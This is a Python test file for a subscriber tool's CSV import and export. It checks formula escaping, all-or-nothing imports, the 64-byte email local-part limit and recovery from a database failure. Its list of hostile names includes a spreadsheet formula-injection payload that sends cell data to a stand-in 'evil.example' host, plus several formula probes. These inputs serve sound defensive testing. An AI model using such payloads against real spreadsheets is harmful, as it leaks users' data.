"""Data the operator hands in or out (issue 12, point 3): exports a spreadsheet cannot run, imports
that are all or nothing for an unreadable file, and RFC 5321's 64-byte local part (checked by the
Address type for every door; held here for the CSV one)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import pytest

from syndicate.cli import main
from syndicate.subscribers import SubscriberStore, import_csv, new_subscriber, write_subscribers
from syndicate.wiring import subscriber_defaults

REPO = Path(__file__).resolve().parent.parent
NOW = datetime(2026, 11, 26, 8, 0, tzinfo=UTC)
VALID = {"city", "main"}
HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+1+1", "-2+3", "@SUM(1+1)", "=1+1",
    "'Tis the season", "'=already quoted", "''", "Plain Name", "-", "Zoë, \"the\" reader",
]


@pytest.fixture
def run(tmp_path, database_url, capsys):
    config = tmp_path / "syndicate.toml"
    config.write_text(
        f'[content]\nfolder = "{REPO / "content"}"\ncache = "{tmp_path / "cache" / "articles.pickle"}"\n'
        f'[categories.main]\ntitle = "Main"\n[database]\nurl = "{database_url}"\n[logging]\nlevel = "WARNING"\n',
        encoding="utf-8",
    )

    def invoke(*args: str) -> tuple[int, str, str]:
        code = 0
        try:
            main(["--config", str(config), *args])
        except SystemExit as e:
            code = e.code if isinstance(e.code, int) else 1
        out = capsys.readouterr()
        return code, out.out, out.err

    return invoke


def store_with_names(database) -> SubscriberStore:
    store = SubscriberStore(database, subscriber_defaults_for_tests())
    for n, name in enumerate(HOSTILE_NAMES):
        store.add(new_subscriber(f"reader{n}@example.org", name=name, categories=["city"], valid_categories=VALID,
                                 defaults=store.defaults), now=NOW, confirmed=True)
    # An address can start with a formula character too.
    store.add(new_subscriber("=cmd@example.org", categories=["city"], valid_categories=VALID, defaults=store.defaults),
              now=NOW, confirmed=True)
    return store


def subscriber_defaults_for_tests():
    from syndicate.config import settings_from_mapping

    return subscriber_defaults(settings_from_mapping({}))


def test_export_escapes_formulas_and_imports_back_unchanged(database, tmp_path):
    store = store_with_names(database)
    out = io.StringIO()
    write_subscribers(store.iter_subscribers(), out)
    for row in csv.reader(io.StringIO(out.getvalue())):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell  # nothing a spreadsheet would run
    exported = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert {r["name"] for r in exported} >= {"'=1+1", "'+1+1", "'-2+3", "'@SUM(1+1)", "''Tis the season", "'''"}
    before = {s.subscriber.email: s.subscriber.name for s in store.iter_subscribers()}
    path = tmp_path / "export.csv"
    path.write_text(out.getvalue(), encoding="utf-8")
    with database.write() as connection:
        connection.exec_driver_sql("DELETE FROM subscribers")
    report = import_csv(store, path, valid_categories=VALID, now=NOW, confirmed=True)
    assert report.problems == () and report.added == len(before)
    assert {s.subscriber.email: s.subscriber.name for s in store.iter_subscribers()} == before


def test_a_hand_written_leading_quote_is_kept(database, tmp_path):
    store = SubscriberStore(database, subscriber_defaults_for_tests())
    path = tmp_path / "in.csv"
    path.write_text("email,name,categories\nann@example.org,'Tis Ann,city\n", encoding="utf-8")
    import_csv(store, path, valid_categories=VALID, now=NOW)
    assert store.get_by_email("ann@example.org").name == "'Tis Ann"


def test_a_syntax_error_at_line_2502_imports_nothing_and_the_dry_run_says_the_same(run, tmp_path):
    path = tmp_path / "big.csv"
    rows = "".join(f"reader{n}@example.org,Reader {n},main\n" for n in range(2500))
    path.write_text("email,name,categories\n" + rows + 'broken@example.org,"Unclosed,main\n'
                    + "after@example.org,After,main\n", encoding="utf-8")
    dry = run("subscribers", "import", "--dry-run", str(path))
    real = run("subscribers", "import", str(path))
    expected = f"error: {path}:2502: unreadable CSV (unexpected end of data; is a quote left open?); nothing was imported"
    for code, _, err in (dry, real):
        assert code == 1 and err.strip() == expected
    assert "added 0," in real[1] and "would add 0," in dry[1]
    assert run("subscribers", "list")[1].strip().endswith("0 subscribers")


def test_a_65_byte_local_part_is_refused_and_64_accepted(database, tmp_path):
    store = SubscriberStore(database, subscriber_defaults_for_tests())
    path = tmp_path / "in.csv"
    path.write_text(f"email\n{'a' * 64}@example.org\n{'b' * 65}@example.org\n", encoding="utf-8")
    report = import_csv(store, path, valid_categories=VALID, now=NOW)
    assert report.added == 1
    assert report.problems == (f"{path}:3: email: '{'b' * 65}@example.org': the part before the @ is 65 bytes long "
                               "(at most 64)",)


def test_a_database_failure_part_way_names_the_lines_that_went_in_and_a_rerun_adds_the_rest(tmp_path):
    """The database refuses one row in the third batch (a trigger: a real database error, not a patch):
    the import stops, says lines 2 to 5 went in, and the same import run again adds the rest."""
    from syndicate.storage import create_database, upgrade
    from syndicate.subscribers import ImportInterrupted

    database = create_database(f"sqlite:///{tmp_path / 'db.sqlite'}")
    upgrade(database)
    with database.write() as connection:
        connection.exec_driver_sql(
            "CREATE TRIGGER refuse BEFORE INSERT ON subscribers WHEN NEW.email = 'poison@example.org' "
            "BEGIN SELECT RAISE(ABORT, 'disk full'); END")
    store = SubscriberStore(database, subscriber_defaults_for_tests())
    path = tmp_path / "in.csv"
    emails = [f"reader{n}@example.org" for n in range(4)] + ["poison@example.org"] + ["last@example.org"]
    path.write_text("email\n" + "\n".join(emails) + "\n", encoding="utf-8")
    with pytest.raises(ImportInterrupted) as caught:
        import_csv(store, path, valid_categories=VALID, now=NOW, batch=2)
    assert str(caught.value) == f"{path}: import stopped at line 6: (sqlite3.IntegrityError) disk full; lines 2 to 5 went in (4 added)"
    assert store.count() == 4
    with database.write() as connection:
        connection.exec_driver_sql("DROP TRIGGER refuse")
    again = import_csv(store, path, valid_categories=VALID, now=NOW, batch=2)
    assert (again.added, again.unchanged) == (2, 4) and store.count() == 6
    database.close()
